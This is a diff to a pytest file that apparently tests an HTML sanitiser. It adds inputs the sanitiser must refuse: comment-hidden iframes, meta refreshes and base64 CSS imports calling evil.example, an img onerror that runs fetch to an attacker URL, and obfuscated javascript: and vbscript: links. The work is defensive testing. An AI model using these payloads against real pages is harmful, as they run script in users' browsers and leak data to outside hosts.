@@ -212,6 +212,14 @@ def test_an_element_a_browser_moves_out_of_a_table_is_refused(context, tag):
     "<p>x</p><!-- <link rel=stylesheet href=\"data:text/css;base64,"
     + base64.b64encode(b"@import '//evil.example/a.css';").decode() + "\"> -->",
     f"<p>x</p><script>{_IMG}",                              # never closed: the rest is its text
+    # a srcdoc written in a comment: its references are resolved twice
+    "<p>x</p><!--<iframe srcdoc=\"<img src=&amp;#x2f;&amp;#x2f;evil.example/x.png>\">-->",
+    "<p>x</p><!--<meta http-equiv=refresh content=\"0;https://evil.example/\">-->",
+    "<p>x</p><!--<img src=/\n/evil.example/x.png>-->",        # a URL's parser drops tabs and newlines
+    "<p>x</p><!--<link rel=stylesheet href=\"data:text/css;base64,"
+    + base64.b64encode(b"@import '//evil.example/a.css';").decode()[:20] + " "
+    + base64.b64encode(b"@import '//evil.example/a.css';").decode()[20:] + "\">-->",   # base64 with a blank
+    f"<p>x</p><img src=x.png onerror=\"fetch('{_EVIL}')\">",
 ], ids=lambda p: p[8:40])
 def test_a_remote_url_in_inert_text_is_refused(page):
     _refused(page, "no markup")
@@ -238,6 +246,18 @@ def test_an_xml_comment_is_read_as_xml_reads_it_and_not_refused():
     svg = '<svg xmlns="http://www.w3.org/2000/svg"><!--! Icons by https://example.org/icons --><path d="M0 0"/></svg>'
     assert check(svg, xml=True) == []
     assert check(f'a{{mask-image:url("data:image/svg+xml;charset=utf-8,{svg}")}}', css=True) == []
+
+
+@pytest.mark.parametrize("url", ["javascript:fetch('//evil.example/')", " JavaScript:void(0)", "java\tscript:x",
+                                 "vbscript:x"])
+def test_a_script_url_is_refused(url):
+    _refused(f'<p>x</p><a href="{url}">a</a>', "a script URL")
+    _refused(f'<p>x</p><iframe src="{url}"></iframe>', "a script URL")
+
+
+def test_a_tag_in_a_colgroup_is_moved_out_of_the_table_and_refused():
+    _refused(f"<p>x</p><table><colgroup>{_IMG}</colgroup></table>", "directly in <colgroup>")
+    assert refusals("<p>x</p><table><colgroup><col><col></colgroup><tr><td>a</td></tr></table>") == []
 
 
 # --- what the layer leaves as it was ------------------------------------------------------------------------
